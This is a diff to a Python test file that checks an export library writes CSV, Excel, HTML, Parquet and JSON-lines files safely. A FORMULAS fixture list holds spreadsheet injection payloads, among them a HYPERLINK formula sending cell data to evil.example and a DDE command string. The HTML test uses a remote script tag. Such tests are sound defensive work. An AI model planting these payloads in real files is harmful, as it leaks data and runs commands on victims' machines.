@@ -1,37 +1,301 @@
-"""Frames for other libraries."""
+"""Frames for other programs."""
 
 from __future__ import annotations
 
+import csv
+import datetime
 import json
+import re
 import sys
+import tempfile
+import zipfile
+from pathlib import Path
+from typing import Any
 
+import numpy as np
+import pandas as pd
 import pyarrow as pa
 import pytest
 
 import agentbook as ab
-from agentbook.frames import export
+from agentbook.frames import excel, export
 from support.fake_platform.core import event_id
 from support.fake_platform.over_http import HttpPlatform
 
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "  =1",
+    "\u200b=1",
+    "＝1",
+]
+HARMLESS = ["plain", "a = b", "1-2", "", "it's", "hello\r=1+1", 'a "quoted" text', "a;=1", "ünï ✓"]
 
-def test_arrow_has_the_same_columns_and_provenance() -> None:
-    frame = ab.load_events(HttpPlatform({"s": [event_id(n, n) for n in range(5)]}).client(), "s")
-    table = export.to_arrow(frame)
-    assert table.column_names == list(frame.columns)
-    assert table["id"].to_pylist() == frame["id"].tolist()
+
+@pytest.fixture
+def events() -> pd.DataFrame:
+    return ab.load_events(HttpPlatform({"s": [event_id(n, n) for n in range(5)]}).client(), "s")
+
+
+def frame_of(texts: list[Any]) -> pd.DataFrame:
+    return pd.DataFrame({"n": range(len(texts)), "text": pd.Series(texts, dtype="str")})
+
+
+def read_rows(path: Path) -> list[list[str]]:
+    with open(path, encoding="utf-8", newline="") as file:
+        return list(csv.reader(file))
+
+
+# -- CSV ---------------------------------------------------------------------------
+
+
+def test_csv_holds_no_formula_unless_asked_to_keep_the_texts(tmp_path: Path) -> None:
+    frame = frame_of(FORMULAS + HARMLESS).rename(columns={"text": "=text"})
+    path = ab.export(frame, tmp_path / "x.csv")
+    assert path == tmp_path / "x.csv"
+    header, *rows = read_rows(path)
+    assert header == ["n", "'=text"]
+    assert [text for _, text in rows] == ["'" + text for text in FORMULAS] + HARMLESS
+    ab.export(frame, path, escape_formulas=False)
+    header, *rows = read_rows(path)
+    assert header == ["n", "=text"]
+    assert [text for _, text in rows] == FORMULAS + HARMLESS
+
+
+def test_texts_of_categories_indexes_and_objects_are_escaped_too(tmp_path: Path) -> None:
+    frame = pd.DataFrame(
+        {
+            "kind": pd.Categorical(["=1", "b", None]),
+            "any": ["=2", 3, None],
+            "number": [-1.5, np.nan, 2],
+            "list": [["=3"], [], None],
+        },
+        index=pd.Index(["=4", "e", "f"], name="=key"),
+    )
+    assert read_rows(ab.export(frame, tmp_path / "x.csv")) == [
+        ["'=key", "kind", "any", "number", "list"],
+        ["'=4", "'=1", "'=2", "-1.5", '["=3"]'],
+        ["e", "b", "3", "", "[]"],
+        ["f", "", "", "2.0", ""],
+    ]
+
+
+def test_every_text_of_a_csv_is_quoted_so_that_no_carriage_return_begins_a_row(tmp_path: Path) -> None:
+    path = ab.export(frame_of(["hello\r=1+1"]), tmp_path / "x.csv", escape_formulas=False)
+    assert path.read_bytes() == b'"n","text"\n0,"hello\r=1+1"\n'
+
+
+def test_only_csv_files_have_formulas_to_escape(tmp_path: Path) -> None:
+    with pytest.raises(ValueError, match=r"escape_formulas is for \.csv files"):
+        ab.export(frame_of(["=1"]), tmp_path / "x.parquet", escape_formulas=True)
+    ab.export(frame_of(["=1"]), tmp_path / "x.parquet", escape_formulas=False)
+    assert pd.read_parquet(tmp_path / "x.parquet")["text"].tolist() == ["=1"]
+
+
+# -- Excel -------------------------------------------------------------------------
+
+
+def open_workbook(path: Path) -> Any:
+    pytest.importorskip("xlsxwriter", reason="Excel files need xlsxwriter")
+    openpyxl = pytest.importorskip("openpyxl", reason="openpyxl reads the workbook back")
+    return openpyxl.load_workbook(path)
+
+
+def write_workbook(frame: pd.DataFrame, path: Path) -> Any:
+    pytest.importorskip("xlsxwriter", reason="Excel files need xlsxwriter")
+    return open_workbook(ab.export(frame, path))
+
+
+def test_excel_has_texts_as_text_cells_and_no_links(tmp_path: Path) -> None:
+    texts = [*FORMULAS, "http://evil.example", "mailto:a@b.example", "1234567890123456789", "{=SUM(1)}", "_x0041_"]
+    sheet = write_workbook(frame_of(texts), tmp_path / "x.xlsx")["data"]
+    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
+    # XML turns a carriage return into a line feed; openpyxl leaves its escape as it is.
+    assert [str(cell.value).replace("_x000D_", "\r") for cell in cells][: len(FORMULAS)] == FORMULAS
+    assert {cell.data_type for cell in cells} <= {"s", "inlineStr"}
+    assert not any(cell.hyperlink for cell in cells)
+    with zipfile.ZipFile(tmp_path / "x.xlsx") as book:
+        xml = "".join(book.read(name).decode() for name in book.namelist() if "worksheets" in name)
+    assert not re.search(r"<f[ >]|<hyperlink|relationships/hyperlink", xml)
+
+
+def test_excel_has_the_time_of_a_zone_and_names_it(tmp_path: Path) -> None:
+    moment = pd.Timestamp("2026-10-25T00:30:00.125Z")
+    frame = pd.DataFrame(
+        {
+            "utc": [moment, pd.NaT, pd.Timestamp("1815-12-10", tz="UTC")],
+            "local": pd.Series([moment] * 3).dt.tz_convert("Europe/Berlin"),
+            "naive": [moment.tz_localize(None)] * 3,
+            "took": [pd.Timedelta(hours=30, seconds=1), pd.NaT, pd.Timedelta(0)],
+        }
+    )
+    book = write_workbook(frame, tmp_path / "x.xlsx")
+    utc, local, naive, took = next(book["data"].iter_rows(min_row=2))
+    assert utc.value == naive.value == datetime.datetime(2026, 10, 25, 0, 30, 0, 125_000)
+    assert local.value == datetime.datetime(2026, 10, 25, 2, 30, 0, 125_000)
+    assert took.value == datetime.timedelta(hours=30, seconds=1)
+    assert (utc.number_format, local.number_format) == (
+        'yyyy-mm-dd hh:mm:ss.000" UTC"',
+        'yyyy-mm-dd hh:mm:ss.000" Europe/Berlin"',
+    )
+    assert naive.number_format == "yyyy-mm-dd hh:mm:ss.000"
+    # Excel's calendar begins in 1900.
+    assert [row[0].value for row in book["data"].iter_rows(min_row=3)] == [None, "1815-12-10T00:00:00"]
+    about = {name.value: value.value for name, value in book["about"].iter_rows()}
+    assert about == {"time zone of utc": "UTC", "time zone of local": "Europe/Berlin"}
+
+
+def test_excel_says_which_texts_it_cuts(tmp_path: Path) -> None:
+    longest, longer, wide = "x" * excel.MAX_TEXT, "y" * (excel.MAX_TEXT + 1), "😀" * 20_000
+    with pytest.warns(UserWarning, match=r"2 texts were longer than the 32,767 characters.*\.parquet") as warned:
+        path = ab.export(frame_of([longest, longer, wide]), tmp_path / "x.xlsx")
+    assert warned[0].filename == __file__
+    book = open_workbook(path)
+    first, second, third = (row[1].value for row in book["data"].iter_rows(min_row=2))
+    assert first == longest
+    assert second.endswith("yy… [cut: 32,768 characters]")
+    assert third.endswith("😀… [cut: 20,000 characters]")
+    assert max(len(text.encode("utf-16-le")) // 2 for text in (second, third)) <= excel.MAX_TEXT
+    assert "2 texts were longer" in {name.value: value.value for name, value in book["about"].iter_rows()}["texts cut"]
+
+
+def test_excel_has_numbers_truths_and_gaps(tmp_path: Path) -> None:
+    frame = pd.DataFrame(
+        {
+            "Int64": pd.array([1, None, 2**60], "Int64"),
+            "float": [0.5, np.nan, np.inf],
+            "boolean": pd.array([True, None, False], "boolean"),
+            "kind": pd.Categorical(["a", None, "b"]),
+        }
+    )
+    rows = [[cell.value for cell in row] for row in write_workbook(frame, tmp_path / "x.xlsx")["data"].iter_rows()]
+    assert rows == [
+        ["Int64", "float", "boolean", "kind"],
+        [1, 0.5, True, "a"],
+        [None, None, None, None],
+        [str(2**60), "inf", False, "b"],
+    ]
+
+
+def test_excel_refuses_what_a_sheet_cannot_hold(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    pytest.importorskip("xlsxwriter", reason="Excel files need xlsxwriter")
+    monkeypatch.setattr(excel, "MAX_ROWS", 3)
+    with pytest.raises(ValueError, match=r"holds 2 rows.* has 3 .*\.parquet"):
+        ab.export(frame_of(["a", "b", "c"]), tmp_path / "x.xlsx")
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_without_xlsxwriter_it_says_what_to_install(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setitem(sys.modules, "xlsxwriter", None)
+    with pytest.raises(ImportError, match=r"pip install 'agentbook\[excel\]'"):
+        ab.export(frame_of(["a"]), tmp_path / "x.xlsx")
+    assert list(tmp_path.iterdir()) == []
+
+
+# -- other files -------------------------------------------------------------------
+
+
+def test_parquet_gives_the_frame_back(events: pd.DataFrame, tmp_path: Path) -> None:
+    turns = ab.turns(events)
+    path = ab.export(turns, tmp_path / "turns.parquet")
+    back = pd.read_parquet(path)
+    pd.testing.assert_frame_equal(back, turns, check_categorical=False)
+    assert back.attrs["agentbook"]["derived"] == "turns"
+
+
+def test_html_is_one_page_without_scripts(tmp_path: Path) -> None:
+    text = '<script src="https://evil.example/x.js"></script>' + "long " * 100
+    frame = frame_of([text, None, "a\nb"])
+    frame.attrs["agentbook"] = {"resource": "<b>events"}
+    page = ab.export(frame, tmp_path / "x.html").read_text("utf-8")
+    assert "<script" not in page
+    assert "<b>" not in page
+    assert ("long " * 100).strip() + "</td>" in page
+    assert "a\nb" in page
+    assert "default-src 'none'" in page
+    assert "<title>&lt;b&gt;events: 3 rows</title>" in page
+
+
+def test_lines_of_json(events: pd.DataFrame, tmp_path: Path) -> None:
+    path = ab.export(events, tmp_path / "x.jsonl")
+    rows = [json.loads(line) for line in path.read_text("utf-8").splitlines()]
+    assert [row["id"] for row in rows] == events["id"].tolist()
+    assert pd.Timestamp(rows[0]["at"]) == events["at"].iloc[0]
+    assert rows[0]["task_id"] is None
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".html", ".parquet", ".jsonl"])
+def test_every_kind_of_file_takes_every_kind_of_table(events: pd.DataFrame, tmp_path: Path, suffix: str) -> None:
+    if suffix == ".xlsx":
+        pytest.importorskip("xlsxwriter", reason="Excel files need xlsxwriter")
+    client = HttpPlatform({"s": [event_id(n, n) for n in range(5)]}).client()
+    listing = client.sessions.events("s")
+    tables: list[Any] = [
+        events, events.iloc[:0], events["type"], export.to_arrow(events), listing, ab.hour_of_week(events),
+        ab.turns(events), pd.DataFrame(), pd.DataFrame({("a", "b"): [1], ("a", ""): [2]}),
+    ]  # fmt: skip
+    for table in tables:
+        if suffix == ".parquet" and isinstance(getattr(table, "columns", None), pd.MultiIndex):
+            continue
+        path = ab.export(table, tmp_path / f"x{suffix.upper()}")
+        assert path.stat().st_size or not len(table)
+    assert len(list(tmp_path.iterdir())) == 1
+
+
+def test_an_unknown_suffix_and_a_thing_that_is_no_frame_name_what_to_do(tmp_path: Path) -> None:
+    for name in ("x.docx", "x", "x.csv.gz"):
+        with pytest.raises(ValueError, match=r"use one of \.csv, \.xlsx, \.html, \.parquet, \.jsonl"):
+            ab.export(frame_of([]), tmp_path / name)
+    with pytest.raises(TypeError, match=r"needs a frame, not list: load one with ab\.load_events"):
+        ab.export([1], tmp_path / "x.csv")
+    with pytest.raises(FileNotFoundError, match=r"there is no folder .*Create it first"):
+        ab.export(frame_of([]), tmp_path / "none" / "x.csv")
+    assert list(tmp_path.iterdir()) == []
+
+
+class Unprintable:
+    def __str__(self) -> str:
+        raise RuntimeError("no text")
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".html", ".parquet"])
+def test_nothing_is_half_written(tmp_path: Path, suffix: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    if suffix == ".xlsx":
+        pytest.importorskip("xlsxwriter", reason="Excel files need xlsxwriter")
+    path = tmp_path / f"x{suffix}"
+    path.write_text("before")
+    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))  # what is left there is seen too
+    frame = pd.DataFrame({"text": ["a"] * 10 + [Unprintable()]})
+    with pytest.raises((RuntimeError, pa.ArrowException)):
+        ab.export(frame, path)
+    assert path.read_text() == "before"
+    assert [file.name for file in tmp_path.iterdir()] == [path.name]
+
+
+# -- other libraries ---------------------------------------------------------------
+
+
+def test_arrow_has_the_same_columns_and_provenance(events: pd.DataFrame) -> None:
+    table = export.to_arrow(events)
+    assert table.column_names == list(events.columns)
+    assert table["id"].to_pylist() == events["id"].tolist()
     assert table.schema.field("id").type == pa.large_string()
     assert pa.types.is_dictionary(table.schema.field("type").type)
     assert table.schema.field("at").type == pa.timestamp("us", "UTC")
-    assert json.loads(table.schema.metadata[export.KEY]) == frame.attrs["agentbook"]
+    assert json.loads(table.schema.metadata[export.KEY]) == events.attrs["agentbook"]
 
 
-def test_polars_comes_from_the_same_columns() -> None:
+def test_polars_comes_from_the_same_columns(events: pd.DataFrame) -> None:
     pytest.importorskip("polars", reason="Polars is not installed: pip install polars")
-    frame = ab.load_events(HttpPlatform({"s": [event_id(n, n) for n in range(5)]}).client(), "s")
-    assert export.to_polars(frame)["id"].to_list() == frame["id"].tolist()
+    assert export.to_polars(events)["id"].to_list() == events["id"].tolist()
 
 
-def test_without_polars_it_says_what_to_install(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_without_polars_it_says_what_to_install(events: pd.DataFrame, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setitem(sys.modules, "polars", None)
     with pytest.raises(ImportError, match="pip install polars"):
-        export.to_polars(ab.load_events(HttpPlatform({}).client(), []))
+        export.to_polars(events)
